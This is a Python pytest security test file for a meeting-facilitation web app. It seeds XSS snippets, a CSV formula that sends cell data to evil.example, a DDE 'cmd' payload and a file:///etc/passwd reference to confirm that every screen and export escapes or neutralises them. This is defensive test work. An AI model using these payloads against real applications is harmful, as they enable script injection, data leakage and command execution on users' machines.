"""HTML and script in card text, names and case covers stay text on every screen and document.

Everything people type reaches the screens through Jinja with autoescape on,
and the documents through their own escaping (Markdown, DOCX, PDF via an
autoescaping template, CSV with formula neutralisation). Here a case meeting
is filled with hostile text everywhere a person can type, and every screen,
every websocket fragment and every download is checked: the markup never
comes back as markup, and it does come back as text.
"""

from __future__ import annotations

import html
import io
import re
import shutil
import subprocess
import time
import zipfile
from collections.abc import Callable

import pytest
from markupsafe import escape
from sqlmodel import SQLModel
from starlette.testclient import TestClient

from server.engine import Actor, ActorRole, lobby
from server.engine.commands import (
    AddAction,
    AddCard,
    AddCluster,
    GoToStep,
    RecordDecision,
    StartSession,
)
from server.engine.events import SessionCreated
from server.privacy.audit import to_csv
from server.store.tables import AuditLog
from tests.security.sec_support import cast, form_token

SCRIPT = '<script>alert("x1")</script>'
IMG = "<img src=x onerror=alert('x2')>"
SVG = '"><svg/onload=alert(3)>'
HOSTILE = (SCRIPT, IMG, SVG)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'

FAC = Actor(ActorRole.FACILITATOR, "user:1")


def markup_free(text: str, where: str) -> None:
    """None of the hostile snippets comes back as markup."""
    for snippet in HOSTILE:
        assert snippet not in text, f"{where}: {snippet!r} came back as markup"
    assert not re.search(r"<script>alert|onerror=alert\('x2'\)>|<svg/onload", text), where


def shown_as_text(text: str, where: str) -> None:
    """...and at least one of them is there as text (escaped), so the test saw it."""
    markup_free(text, where)
    escaped = [str(escape(s)) for s in HOSTILE] + [html.escape(s, quote=False) for s in HOSTILE]
    assert any(e in text for e in escaped), f"{where}: the hostile text is not shown at all"


@pytest.fixture
def meeting(client: TestClient, new_browser: Callable[[], TestClient]):  # type: ignore[no-untyped-def]
    """A Kvifa-style case meeting with hostile text in every field people fill in."""
    people = cast(client, new_browser)
    svc = people.services
    fac_user = people.users["facilitator"]
    case = {
        "id": "k1",
        "label": f"Sag 1 {IMG}",
        "cover": f"Forklæde {SCRIPT} {SVG}",
        "summary": f"Resumé {IMG}",
        "learning_question": f"Spørgsmål {SCRIPT}",
    }

    async def seed() -> tuple[str, str]:
        script = svc.catalog.get("heldagsmoede")
        assert script is not None
        row = await svc.repo.add_session(
            people.engagement_id,
            script.id,
            script.title,
            script.language,
            fac_user.id,
            code_length=16,
        )
        await svc.live.create(
            row.id,
            SessionCreated(
                at=time.time(),
                session_id=row.id,
                script=script.model_dump(mode="json"),
                cases=(case,),
            ),
        )
        svc.remember(row)
        return row.id, row.join_code

    session_id, code = client.portal.call(seed)
    phone = new_browser()
    page = phone.get(f"/j/{code}")
    token = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert token
    r = phone.post("/join", data={"code": code, "name": f"Bo {SCRIPT}", "csrf": token.group(1)})
    assert r.status_code == 200

    async def run() -> None:
        live = await svc.live.get(session_id)
        assert live is not None
        waiting = lobby.waiting(live.state)
        steps = live.state.script.steps
        walk = next(s for s in steps if s.kind == "case_walkthrough")
        cards = next(s for s in steps if s.cards and s.kind == "brainstorm")
        for command in (
            StartSession(actor=FAC),
            GoToStep(actor=FAC, step_id=walk.id),
            AddCard(actor=FAC, card_id="w1", text=f"Læring {IMG}"),
            GoToStep(actor=FAC, step_id=cards.id),
            AddCard(actor=FAC, card_id="c1", text=f"Kort {SCRIPT}"),
            AddCluster(actor=FAC, cluster_id="k1", title=f"Tema {SVG}"),
            RecordDecision(actor=FAC, decision_id="d1", text=f"{FORMULA} {IMG}", decided_by=SCRIPT),
            AddAction(actor=FAC, action_id="a1", what=FORMULA, who=f"Mette {SVG}"),
            GoToStep(actor=FAC, step_id=walk.id),
        ):
            out = await live.submit(command)
            assert isinstance(out, list), (command, out)
        # One more person waits at the door with a hostile name.
        await live.submit(
            lobby.AskToJoin(actor=Actor(ActorRole.PARTICIPANT, "late1"), name=f"Sen {IMG}")
        )
        assert not waiting  # the phone above was let in already, through the real page

    live = client.portal.call(svc.live.get, session_id)
    (knock,) = lobby.waiting(live.state)
    fac = people.browsers["facilitator"]
    r = fac.post(
        f"/facilitator/sessions/{session_id}/lobby",
        data={"participant_id": knock.id, "decision": "admit", "csrf": form_token(fac)},
        follow_redirects=False,
    )
    assert r.status_code == 303
    client.portal.call(run)
    return people, session_id, code, phone


def test_every_screen_shows_hostile_text_as_text(meeting) -> None:  # type: ignore[no-untyped-def]
    people, session_id, code, phone = meeting
    fac = people.browsers["facilitator"]
    key = people.services.projector_key(session_id)
    pages = {
        "facilitator page": fac.get(f"/facilitator/sessions/{session_id}").text,
        "projector page": fac.get(f"/projector/{session_id}?key={key}").text,
        "participant page": phone.get(f"/j/{code}").text,
    }
    for where, text in pages.items():
        shown_as_text(text, where)
    # The live fragments each screen gets over the websocket.
    for who, c, url in (
        ("facilitator", fac, f"/ws/{session_id}/facilitator"),
        ("projector", fac, f"/ws/{session_id}/projector?key={key}"),
        ("participant", phone, f"/ws/{session_id}/participant"),
    ):
        with c.websocket_connect(url) as ws:
            snapshot = ws.receive_text()
            shown_as_text(snapshot, f"{who} websocket")
    # The facilitator's waiting list has the late person's name, as text.
    with fac.websocket_connect(f"/ws/{session_id}/facilitator") as ws:
        snapshot = ws.receive_text()
        assert str(escape(f"Sen {IMG}")) in snapshot
        markup_free(snapshot, "facilitator waiting list")


def test_the_lobby_page_shows_a_hostile_name_as_text(
    client: TestClient, new_browser: Callable[[], TestClient]
) -> None:
    people = cast(client, new_browser, login=False)
    svc = people.services

    async def seed() -> str:
        row = await svc.create_session(people.engagement_id, "kvifa", people.users["facilitator"])
        return row.join_code

    code = client.portal.call(seed)
    phone = new_browser()
    token = re.search(r'name="csrf" value="([^"]+)"', phone.get(f"/j/{code}").text)
    assert token
    r = phone.post("/join", data={"code": code, "name": SCRIPT, "csrf": token.group(1)})
    shown_as_text(r.text, "lobby page")


def test_every_document_keeps_hostile_text_as_text(meeting) -> None:  # type: ignore[no-untyped-def]
    people, session_id, _code, _phone = meeting
    fac = people.browsers["facilitator"]
    base = f"/facilitator/sessions/{session_id}"
    page = fac.get(f"{base}/minutes")
    assert page.status_code == 200
    shown_as_text(page.text, "minutes page")
    md = fac.get(f"{base}/minutes.md").text
    for snippet in HOSTILE:
        assert snippet not in md, "minutes.md"
    assert "\\<script\\>" in md or "&lt;script&gt;" in md
    minutes_json = fac.get(f"{base}/minutes.json")
    assert minutes_json.headers["content-type"].startswith("application/json")
    assert "nosniff" in minutes_json.headers["x-content-type-options"]
    docx = fac.get(f"{base}/minutes.docx").content
    document = zipfile.ZipFile(io.BytesIO(docx)).read("word/document.xml").decode()
    assert "&lt;script&gt;" in document and "<script>" not in document
    for name in ("decisions.csv", "actions.csv"):
        body = fac.get(f"{base}/{name}").content.decode("utf-8-sig")
        cells = [c.strip('"') for line in body.splitlines() for c in line.split(";")]
        assert not any(c.lstrip().startswith(("=", "+", "-", "@")) for c in cells), name
        assert "'=HYPERLINK" in body, name
    if shutil.which("pdftotext"):
        pdf = fac.get(f"{base}/minutes.pdf").content
        text = subprocess.run(
            ["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True
        ).stdout.decode()
        # Rendered as literal text, not as HTML: the tags are visible in the PDF.
        assert "<script>" in text or "&lt;script&gt;" not in text
        assert "onerror=alert" in " ".join(text.split())


def test_the_audit_page_and_its_csv_keep_names_as_text(meeting) -> None:  # type: ignore[no-untyped-def]
    people, _session_id, _code, _phone = meeting
    admin = people.browsers["admin"]
    page = admin.get("/admin/audit")
    assert page.status_code == 200
    shown_as_text(page.text, "audit page")  # the admitted participant's name
    body = admin.get("/admin/audit.csv").content.decode("utf-8-sig")
    assert "<script>alert(" in body  # CSV is not HTML: the text is there as it was written
    hostile = AuditLog(action="login", target=FORMULA, actor="=cmd|' /C calc'!A0")
    csv = to_csv([hostile]).decode("utf-8-sig")
    assert "'=HYPERLINK" in csv and "'=cmd" in csv


def test_the_case_register_shows_a_hostile_cover_as_text(meeting) -> None:  # type: ignore[no-untyped-def]
    people, *_ = meeting
    if "engagement_case" not in SQLModel.metadata.tables:
        pytest.skip("no case register in this build")
    from sqlalchemy import select

    table = SQLModel.metadata.tables["engagement_case"]
    admin = people.browsers["admin"]

    async def first_case() -> str | None:
        async with people.services.engine.connect() as conn:
            row = (
                await conn.execute(
                    select(table.c.id).where(table.c.engagement_id == people.engagement_id)
                )
            ).first()
            return None if row is None else str(row[0])

    # Import one through the engagement's own import form when there is none.
    case_id = admin.portal.call(first_case)
    if case_id is None:
        csv = (
            f'Sag;Forklæde;Resumé;Læringsspørgsmål\r\nSag 9;"Forklæde {SCRIPT}";"{IMG}";"{SVG}"\r\n'
        )
        admin.post(
            f"/engagements/{people.engagement_id}/cases/import",
            data={"csrf": form_token(admin)},
            files={"file": ("sager.csv", csv.encode(), "text/csv")},
        )
        case_id = admin.portal.call(first_case)
    if case_id is None:
        pytest.skip("the register's import format differs; covered by the engagement's tests")
    page = admin.get(f"/engagements/{people.engagement_id}/cases/{case_id}")
    assert page.status_code == 200
    markup_free(page.text, "case page")
    register = admin.get(f"/engagements/{people.engagement_id}/cases")
    markup_free(register.text, "case register")


def test_the_pdf_renderer_fetches_no_file_and_no_url() -> None:
    """Defence in depth: markup in a PDF could not read a file or reach a server."""
    import http.server
    import threading

    from server.minutes.pdf import html_to_pdf

    hits: list[str] = []

    class Spy(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    spy = http.server.HTTPServer(("127.0.0.1", 0), Spy)
    threading.Thread(target=spy.serve_forever, daemon=True).start()
    try:
        port = spy.server_address[1]
        pdf = html_to_pdf(
            f'<html><head><link rel="stylesheet" href="http://127.0.0.1:{port}/a.css"></head>'
            f'<body><img src="http://127.0.0.1:{port}/b.png"><img src="file:///etc/passwd">'
            f'<p style="background: url(http://127.0.0.1:{port}/c)">x</p></body></html>'
        )
    finally:
        spy.shutdown()
    assert pdf.startswith(b"%PDF") and hits == []
